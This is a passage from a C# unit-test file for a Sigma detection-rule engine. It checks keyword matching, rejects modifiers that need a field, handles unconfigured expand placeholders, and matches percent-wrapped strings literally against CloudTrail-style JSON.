        var set = SigmaTestRules.Detection("    keywords:\n        - 'true'\n    condition: keywords");
        Assert.True(set.MatchesJson("""{"requestParameters":{"publicAccessBlock":{"enabled":true}}}"""));
        Assert.False(set.MatchesJson("""{"requestParameters":{"publicAccessBlock":{"enabled":false}}}"""));
        var off = SigmaTestRules.Detection("    keywords:\n        - 'FALSE'\n    condition: keywords");
        Assert.True(off.MatchesJson("""{"requestParameters":{"enabled":false}}"""));
    }

    [Theory]
    [InlineData("cidr", "10.0.0.0/8")]
    [InlineData("gt", "5")]
    [InlineData("fieldref", "eventName")]
    public void Keywords_WithAModifierThatNeedsAField_AreRejectedWithTheReason(string modifier, string value)
    {
        var parsed = SigmaParser.Parse($"title: k\nlogsource: {{product: aws, service: cloudtrail}}\ndetection:\n    keywords:\n        '|{modifier}': '{value}'\n    condition: keywords\n", "k.yml");
        var set = CompiledRuleSet.Compile(parsed.Documents);

        Assert.Empty(set.Rules);
        var error = Assert.Single(set.Diagnostics);
        Assert.Equal(DiagnosticSeverity.Error, error.Severity);
        Assert.Contains($"'{modifier}' modifier does not apply to keywords", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Expand_WithoutConfiguredValues_RejectsTheRule_AsTheSpecificationAsks()
    {
        var parsed = SigmaParser.Parse("title: admins\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n    sel:\n        userIdentity.userName|expand: '%Administrators%'\n    condition: sel\n", "x.yml");
        var set = CompiledRuleSet.Compile(parsed.Documents);

        Assert.Empty(set.Rules);
        var error = Assert.Single(set.Diagnostics);
        Assert.Equal((DiagnosticSeverity.Error, 5), (error.Severity, error.Line));
        Assert.Contains("%Administrators% has no configured values; the document is rejected", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void PercentWithoutExpand_IsLiteral()
    {
        var set = SigmaTestRules.Detection("    sel:\n        f: '%name%'\n    condition: sel");
        Assert.True(set.MatchesJson("""{"f":"%name%"}"""));
    }
}
